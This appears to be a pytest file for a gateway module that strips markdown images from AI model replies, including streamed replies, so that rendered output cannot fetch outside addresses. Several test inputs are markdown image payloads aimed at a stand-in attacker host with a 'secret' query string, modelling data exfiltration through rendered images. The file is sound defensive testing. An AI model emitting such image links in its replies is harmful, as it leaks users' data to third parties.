"""Model output shown without fetching outside addresses: no markdown image survives, even mid-stream.

The oracle is a real CommonMark renderer (markdown-it-py): whatever the text, it renders no `<img>`.
"""

from __future__ import annotations

import gc
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from catalog.gateway.safe_markdown import stream_without_images, without_images

MARKDOWN = MarkdownIt("commonmark")
PIECES = ["!", "[", "]", "(", ")", "![", "](", "]: ", "\n", " ", "    ", "alt", "http://e.example/?q=s", "`", "```",
          "~~~", "\\", "<", ">", "- ", "vec![1]", "x"]  # fmt: skip


def shows_an_image(text: str) -> bool:
    return "<img" in MARKDOWN.render(text)


@pytest.mark.parametrize(
    "reply",
    [
        '![cat](https://evil.example/leak?c=secret "a cat")',
        "![a [nested] alt](https://evil.example/x)",
        "![alt over\ntwo lines](https://evil.example/x)",
        "![a](<https://evil.example/with space>)",
        "![a](https://evil.example/(parens))",
        "[![inside a link](https://evil.example/i)](https://example.com)",
        "![by reference][r]\n\n[r]: https://evil.example/x",
        "![r]\n\n[r]: https://evil.example/x",
        "\\\\![an escaped backslash, then an image](https://evil.example/x)",
        "- a list\n  ```\n  code\n![after the list](https://evil.example/x)",
    ],
)
def test_no_image_form_survives(reply):
    assert shows_an_image(reply)
    assert not shows_an_image(without_images(reply))


def test_an_image_becomes_a_bang_and_a_link():
    assert without_images("See ![chart](https://e.example/c.png).") == "See \\![chart](https://e.example/c.png)."
    assert '<a href="https://e.example/c.png">chart</a>' in MARKDOWN.render(
        without_images("![chart](https://e.example/c.png)")
    )


def test_code_blocks_are_left_as_written():
    reply = "```rust\nlet v = vec![1, 2];\n```\n\n    indented![x](y)\n\nText `vec![1]`."
    shown = without_images(reply)
    assert "let v = vec![1, 2];" in shown and "    indented![x](y)" in shown
    assert not shows_an_image(shown)


def test_text_without_images_is_unchanged():
    text = "A bang! [a link](https://example.com) \\![already escaped](x)"
    assert without_images(text) == text


def test_a_streamed_image_split_anywhere_never_shows():
    text = "Hi ![cat](https://evil.example/leak?q=secret) bye\n```\nvec![1]\n```\n![r][d]\n\n[d]: https://e.example/p"
    for cut in range(len(text)):
        shown = ""
        for piece in stream_without_images([text[:cut], text[cut:]]):
            shown += piece
            assert not shows_an_image(shown)
        assert shown == without_images(text)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), max_size=8))
def test_any_chunking_shows_the_same_text_and_no_image_at_any_moment(chunks):
    shown = ""
    for piece in stream_without_images(chunks):
        shown += piece
        assert not shows_an_image(shown)
    assert shown == without_images("".join(chunks))


# Block structure a reply may carry, so the stream's checkpoints (inside paragraphs, fences, lists, HTML
# blocks, after headings) are each crossed many times.
BLOCK_PIECES = PIECES + ["> ", "1. ", "2. ", "* ", "<div>", "<pre>", "</pre>", "<!--", "-->", "===", "---", "# ",
                         "[r]: /u", "\t", "\n\n", "~~~~", "  ", "![a](b)"]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.lists(st.sampled_from(BLOCK_PIECES), max_size=10).map("".join), max_size=30))
def test_many_chunks_over_block_structure_show_the_same_text_as_the_whole_reply(chunks):
    shown = ""
    for piece in stream_without_images(chunks):
        shown += piece
        assert not shows_an_image(shown)
    assert shown == without_images("".join(chunks))


def best_time(chunks: list[str], rounds: int = 5) -> float:
    """The least CPU time of a few rounds: this process's own, so other busy processes barely move it."""
    times = []
    gc.disable()  # the collector's passes grow with the objects alive, not with the disarmer's work
    try:
        for _ in range(rounds):
            started = time.process_time()
            for _ in stream_without_images(chunks):
                pass
            times.append(time.process_time() - started)
    finally:
        gc.enable()
    return min(times)


@pytest.mark.parametrize(
    ("head", "piece", "count"),
    [
        pytest.param("", "![a](b) ", 20_000, id="images on one line"),
        pytest.param("", "![a](b)\n", 3_000, id="one image a line"),
        pytest.param("```\n", "vec![1]\n", 3_000, id="inside a fence"),
        pytest.param("", "- ![a](b)\n", 3_000, id="list items"),
    ],
)
def test_streamed_disarming_takes_time_linear_in_the_number_of_chunks(head, piece, count):
    """2N chunks cost about twice N chunks (quadratic would be 4x); generous for a noisy 2-core machine."""
    ratios = []
    for _ in range(3):  # noise can slow one try; a quadratic cost is 4x on every try
        single, double = best_time([head] + [piece] * count), best_time([head] + [piece] * (2 * count))
        ratios.append(double / single)
        if ratios[-1] < 3:
            break
    assert min(ratios) < 3, ratios
